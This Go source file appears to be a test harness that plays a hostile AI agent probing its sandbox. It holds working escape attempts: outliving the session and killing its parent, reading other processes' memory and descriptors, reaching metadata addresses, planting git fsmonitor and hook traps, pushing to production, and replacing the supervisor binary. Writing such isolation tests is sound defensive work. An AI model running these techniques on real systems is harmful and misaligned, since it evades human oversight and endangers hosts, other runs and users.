package main

import (
	"bytes"
	"context"
	bits "encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"triphammer/cmd/triphammer/host"
)

// targets is what a hostile agent knows of the machine: more than it could find out.
type targets struct {
	Mark      string // the word that it leaves
	Dir       string // of everything
	Data      string // directory of the server
	Runs      string // folder of the workspaces
	Config    string
	TLSKey    string
	Secrets   string
	Home      string // of the server's user
	Repo      string // of the definitions
	Bin       string // a folder of PATH
	Mine      string // a file that belongs to the server's user
	Setuid    string // a program that becomes another user
	Server    int    // pid
	Bystander victim // a program of the server's user
	Neighbour victim // the agent of another run
}

// hostileSeen is the file in the workspace with what the hostile agent says it has
// reached, by the names of the attempts.
const hostileSeen = "seen.json"

// linkedFile is a file in the server's data that the hostile agent only links to: what it reads
// of the others is in hostileSeen, and so in the patch of its run.
const linkedFile = "linked"

// answered is what an attempt has got.
type answered struct {
	Said string // what it has got, if it believes that it got through
	Err  string // why it believes that it did not
}

// beHostile makes all attempts, one after the other.
func beHostile() error {
	var t targets
	if err := json.NewDecoder(os.Stdin).Decode(&t); err != nil {
		return err
	}
	all := make(map[string]answered)
	for _, e := range escapes {
		if e.try == nil {
			continue
		}
		done := make(chan answered, 1)
		go func() {
			runtime.LockOSThread() // and so the thread ends with the goroutine
			var a answered
			defer func() {
				if p := recover(); p != nil {
					a.Err = fmt.Sprint(p)
				}
				done <- a
			}()
			said, err := e.try(&t)
			if a.Said = said; err != nil {
				a = answered{Err: err.Error()}
			}
		}()
		select {
		case all[e.name] = <-done:
		case <-time.After(3 * time.Second):
			all[e.name] = answered{Err: "it took too long"}
		}
	}
	text, err := json.Marshal(all)
	if err != nil {
		return err
	}
	return os.WriteFile(hostileSeen, text, 0o644)
}

// outlive leaves processes in every way, and kills what could end them.
func outlive(seconds string) error {
	script := fmt.Sprintf("(env -i setsid sh -c 'env -i setsid sleep %[1]s & sleep %[1]s' &) & setsid sh -c '(setsid sleep %[1]s &)'; sleep 0.2", seconds)
	if err := exec.Command("/bin/sh", "-c", script).Run(); err != nil {
		return err
	}
	for range 3 {
		_ = syscall.Kill(os.Getppid(), syscall.SIGSTOP)
		_ = syscall.Kill(os.Getppid(), syscall.SIGKILL)
	}
	return nil
}

// dialBystander sends a word to the listeners of the victim that the prompt describes: directly,
// and by the proxy that the run may have.
func dialBystander(word string) error {
	var v victim
	if err := json.NewDecoder(os.Stdin).Decode(&v); err != nil {
		return err
	}
	errs := []error{askName(&v, word)}
	proxy, proxied := strings.CutPrefix(os.Getenv("HTTPS_PROXY"), "http://")
	for _, address := range append([]string{v.TCP}, v.Metadata...) {
		if address == "" {
			continue // this machine has none
		}
		_, err := sending("tcp", func(*targets) string { return address })(&targets{Mark: word})
		if errs = append(errs, err); proxied {
			errs = append(errs, dialBy(strings.TrimSuffix(proxy, "/"), address, word))
		}
	}
	return errors.Join(errs...)
}

// dialBy sends a word to an address by an HTTP proxy.
func dialBy(proxy, address, word string) error {
	c, err := net.DialTimeout("tcp", proxy, time.Second)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	fmt.Fprintf(c, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", address)
	answer := make([]byte, 512)
	n, readErr := c.Read(answer)
	fmt.Printf("%s\n", answer[:n])
	_, writeErr := io.WriteString(c, word)
	return errors.Join(readErr, writeErr)
}

// use uses much more of something than the run may, and holds it for so many seconds.
func use(what, seconds string) error {
	hold, err := time.ParseDuration(seconds + "s")
	if err != nil {
		return err
	}
	switch what {
	case "memory":
		memory, err := unix.Mmap(-1, 0, 512<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
		if err != nil {
			return err
		}
		for i := 0; i < len(memory); i += 4096 {
			memory[i] = 1
		}
	case "memfd":
		fd, err := unix.MemfdCreate("hostile", 0)
		for n := 0; n < 512 && err == nil; n++ {
			_, err = unix.Write(fd, make([]byte, 1<<20))
		}
		if err != nil {
			return err
		}
	case "unnamed":
		os.Clearenv()
		for i := range 16 {
			f, err := os.Create(fmt.Sprint("large", i))
			if err == nil {
				_, err = f.Write(make([]byte, 4<<20))
			}
			if err := errors.Join(err, os.Remove(fmt.Sprint("large", i))); err != nil {
				return err
			}
			defer func() { _ = f.Close() }()
		}
	case "processes":
		script := "i=0; while [ $i -lt 150 ]; do setsid sleep " + seconds + " & i=$((i+1)); done; wait"
		return exec.Command("/bin/sh", "-c", script).Run()
	case "disk":
		for i := range 16 {
			if err := os.WriteFile(filepath.Join(os.Getenv("TMPDIR"), fmt.Sprint("large", i)), make([]byte, 4<<20), 0o600); err != nil {
				return err
			}
		}
	default: // a file in memory that others share
		f, err := os.Create(what)
		if err == nil {
			defer func() { _, _ = f.Close(), os.Remove(what) }()
			err = unix.Fallocate(int(f.Fd()), 0, 0, 512<<20)
		}
		if err != nil {
			return err
		}
	}
	<-time.After(hold)
	return nil
}

// killServer kills the process that the prompt says.
func killServer() error {
	var pid int
	if _, err := fmt.Fscan(os.Stdin, &pid); err != nil {
		return err
	}
	return syscall.Kill(pid, syscall.SIGKILL)
}

func reading(path func(t *targets) string) func(*targets) (string, error) {
	return func(t *targets) (string, error) {
		f, err := os.Open(path(t))
		if err != nil {
			return "", err
		}
		defer func() { _ = f.Close() }()
		text, err := io.ReadAll(io.LimitReader(f, 64<<10))
		return hex.EncodeToString(text), err
	}
}

func writing(path func(t *targets) string) func(*targets) (string, error) {
	return func(t *targets) (string, error) {
		return "", os.WriteFile(path(t), []byte(t.Mark), 0o666)
	}
}

func procFile(pid int, name string) string { return fmt.Sprintf("/proc/%d/%s", pid, name) }

// readProcess reads the memory of another process by process_vm_readv(2).
func readProcess(pid int, address uint64) (string, error) {
	buf := make([]byte, 64)
	local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
	_, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: uintptr(address), Len: len(buf)}}, 0)
	return hex.EncodeToString(buf), err
}

// readMemory reads the same by /proc.
func readMemory(pid int, address uint64) (string, error) {
	f, err := os.Open(procFile(pid, "mem"))
	if err != nil {
		return "", err
	}
	defer func() { _ = f.Close() }()
	buf := make([]byte, 64)
	_, err = f.ReadAt(buf, int64(address))
	return hex.EncodeToString(buf), err
}

// trace attaches to a process, so that it stops, and lets it go.
func trace(pid int) (string, error) {
	if err := syscall.PtraceAttach(pid); err != nil {
		return "", err
	}
	var status syscall.WaitStatus
	_, err := syscall.Wait4(pid, &status, syscall.WALL, nil)
	return "stopped", errors.Join(err, syscall.PtraceDetach(pid))
}

// takeDescriptor gets a descriptor of another process, and reads the file.
func takeDescriptor(pid, fd int) (string, error) {
	p, err := unix.PidfdOpen(pid, 0)
	if err != nil {
		return "", err
	}
	got, err := unix.PidfdGetfd(p, fd, 0)
	if err != nil {
		return "", err
	}
	buf := make([]byte, 64)
	n, err := unix.Pread(got, buf, 0)
	if errors.Is(err, unix.ESPIPE) {
		n, err = 0, nil // it is a pipe, and now the agent's
	}
	return "got " + hex.EncodeToString(buf[:max(n, 0)]), err
}

// forgedEvent begins what only a forged event says.
const forgedEvent = "forged by "

// forge is a frame with an event, as the supervisor would send it.
func forge(t *targets) []byte {
	text := []byte(`{"kind":"status","data":{"message":"` + forgedEvent + t.Mark + `"}}`)
	return append(bits.BigEndian.AppendUint32([]byte{'v'}, uint32(len(text))), text...)
}

// sending dials and leaves the mark.
func sending(network string, address func(*targets) string) func(*targets) (string, error) {
	return func(t *targets) (string, error) {
		c, err := net.DialTimeout(network, address(t), time.Second)
		if err != nil {
			return "", err
		}
		_, err = io.WriteString(c, t.Mark)
		return "", errors.Join(err, c.Close())
	}
}

// ask asks the server on its socket.
func ask(t *targets, key string) (string, error) {
	client := http.Client{Transport: &http.Transport{DialContext: func(context.Context, string, string) (net.Conn, error) {
		if err := os.Chdir(t.Data); err != nil { // the path may be longer than an address
			return nil, err
		}
		defer func() { _ = os.Chdir(filepath.Join(t.Runs, os.Getenv("TRIPHAMMER_RUN_ID"), "workspace")) }()
		return net.Dial("unix", host.SocketName)
	}}, Timeout: 2 * time.Second}
	req, err := http.NewRequest(http.MethodGet, "http://triphammer/api/v1/agent/runs", nil)
	if err != nil {
		return "", err
	}
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	resp, err := client.Do(req)
	if err != nil {
		return "", err
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		return "", errors.New(resp.Status)
	}
	return resp.Status, nil
}

// cloned starts a program in new namespaces, as root there.
func cloned(flags uintptr, argv ...string) (string, error) {
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: flags, UidMappings: []syscall.SysProcIDMap{{HostID: os.Getuid(), Size: 1}}}
	out, err := cmd.CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, out)
	}
	return "ran " + string(out), nil
}

// calling makes a system call that succeeds with a descriptor or another number.
func calling(call uintptr, args func() [6]uintptr) func(*targets) (string, error) {
	return func(*targets) (string, error) {
		a := args()
		n, _, errno := syscall.Syscall6(call, a[0], a[1], a[2], a[3], a[4], a[5])
		if errno != 0 {
			return "", errno
		}
		return fmt.Sprint("got ", n), nil
	}
}

// program32 is a program for i386: exit(42).
func program32() []byte {
	code := []byte{0xb8, 1, 0, 0, 0, 0xbb, 42, 0, 0, 0, 0xcd, 0x80, 0x0f, 0x0b}
	const base, header = 0x8048000, 52 + 32
	var b bytes.Buffer
	b.Write([]byte{0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0})
	size := uint32(header + len(code))
	for _, v := range []any{
		uint16(2), uint16(3), uint32(1), uint32(base + header), uint32(52), uint32(0), uint32(0), uint16(52), uint16(32), uint16(1), uint16(0), uint16(0), uint16(0),
		uint32(1), uint32(0), uint32(base), uint32(base), size, size, uint32(5), uint32(0x1000),
	} {
		_ = bits.Write(&b, bits.LittleEndian, v) // to memory
	}
	b.Write(code)
	return b.Bytes()
}

func run32(*targets) (string, error) {
	if err := os.WriteFile("program32", program32(), 0o700); err != nil {
		return "", err
	}
	err := exec.Command("./program32").Run()
	if exitStatus(err) == 42 {
		return "it ran", nil
	}
	return "", fmt.Errorf("it ended with %w", err)
}

// plainArtifact is a file among the artifacts that is no link.
const plainArtifact = "plain.txt"

// plant makes files that trap whoever looks at the workspace from outside.
func plant(t *targets) (string, error) {
	trap := filepath.Join(t.Dir, "open", "trap-"+t.Mark)
	script := "#!/bin/sh\n: >" + trap + "\n"
	steps := []error{
		exec.Command("git", "init", "-q", "clone").Run(),
		os.WriteFile("clone/trap", []byte(script), 0o755),
		exec.Command("git", "-C", "clone", "config", "core.fsmonitor", "./trap").Run(),
		exec.Command("git", "-C", "clone", "config", "core.hooksPath", "..").Run(),
		exec.Command("git", "-C", "clone", "config", "diff.external", "./trap").Run(),
		os.Symlink(filepath.Join(t.Data, linkedFile), "key.txt"),
		os.Symlink(t.Data, "folder"),
		os.Symlink(filepath.Join(t.Data, linkedFile), filepath.Join(os.Getenv("TRIPHAMMER_ARTIFACTS"), "key.txt")),
		os.Symlink(t.Data, filepath.Join(os.Getenv("TRIPHAMMER_ARTIFACTS"), "folder")),
		os.WriteFile(filepath.Join(os.Getenv("TRIPHAMMER_ARTIFACTS"), plainArtifact), []byte(t.Mark), 0o644),
	}
	return "planted", errors.Join(steps...)
}

// descriptors are those with which a program of the agent starts.
func descriptors(*targets) (string, error) {
	out, err := exec.Command("/bin/sh", "-c", "ls /proc/$$/fd").Output()
	for _, fd := range strings.Fields(string(out)) {
		if fd != "0" && fd != "1" && fd != "2" && fd != "10" && fd != "255" { // the last are the shell's
			return fd, err
		}
	}
	return "", errors.Join(err, errors.New("none"))
}

func sharedMemory(t *targets) (string, error) {
	memory, err := unix.SysvShmAttach(t.Bystander.Shm, 0, unix.SHM_RDONLY)
	if err != nil {
		return "", err
	}
	return hex.EncodeToString(memory[:64]), nil
}

func keyring(t *targets) (string, error) {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", t.Bystander.Key, 0)
	if err != nil {
		return "", err
	}
	buf := make([]byte, 64)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	return hex.EncodeToString(buf[:max(0, min(n, len(buf)))]), err
}

// setIdle lets a process run only when no other wants to. Anybody may do that to a process of
// the same user, whatever its priority.
func setIdle(pid int) (string, error) {
	var priority int32
	_, _, errno := syscall.Syscall(unix.SYS_SCHED_SETSCHEDULER, uintptr(pid), unix.SCHED_IDLE, uintptr(unsafe.Pointer(&priority)))
	if errno != 0 {
		return "", errno
	}
	return "", nil
}

func messageQueue(t *targets) (string, error) {
	name, err := unix.BytePtrFromString(t.Bystander.Queue)
	if err != nil {
		return "", err
	}
	fd, _, errno := syscall.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), unix.O_RDONLY|unix.O_NONBLOCK, 0, 0, 0, 0)
	if errno != 0 {
		return "", errno
	}
	defer func() { _ = unix.Close(int(fd)) }()
	buf := make([]byte, queueMessage)
	n, _, errno := syscall.Syscall6(unix.SYS_MQ_TIMEDRECEIVE, fd, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), 0, 0, 0)
	if errno != 0 {
		return "", errno
	}
	return hex.EncodeToString(buf[:n]), nil
}

// metadata reaches one of the metadataAddresses.
func metadata(which int) func(*targets) (string, error) {
	return func(t *targets) (string, error) {
		if t.Bystander.Metadata[which] == "" {
			return "", errors.New("this machine has no such address")
		}
		return sending("tcp", func(*targets) string { return t.Bystander.Metadata[which] })(t)
	}
}

// push pushes a commit to the production branch, as its author would.
func push(t *targets) (string, error) {
	script := `export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=safe.directory GIT_CONFIG_VALUE_0='*'
export GIT_AUTHOR_NAME=h GIT_AUTHOR_EMAIL=h@example.com GIT_COMMITTER_NAME=h GIT_COMMITTER_EMAIL=h@example.com
git clone -q "$1" pushing && git -C pushing commit -q --allow-empty -m "$2" && git -C pushing push -q origin HEAD:main`
	out, err := exec.Command("/bin/sh", "-c", script, "push", t.Repo, t.Mark).CombinedOutput()
	if err != nil {
		return "", fmt.Errorf("%w: %s", err, out)
	}
	return "", nil
}

func pinTo(pid int) (string, error) {
	var set unix.CPUSet
	set.Set(0)
	return "", unix.SchedSetaffinity(pid, &set)
}

func replaceProgram(t *targets) (string, error) {
	path := filepath.Join(t.Runs, ".triphammer")
	text, err := os.ReadFile("/proc/self/exe")
	if err == nil {
		err = os.WriteFile(path+".mine", text, 0o755)
	}
	return "", errors.Join(err, os.Rename(path+".mine", path))
}

var (
	ringParams [128]byte
	perfAttr   = [128]byte{4: 128}
	bpfAttr    = [128]byte{0: 1, 4: 4, 8: 4, 12: 1}
)

func pointer(b *[128]byte) uintptr { return uintptr(unsafe.Pointer(b)) }
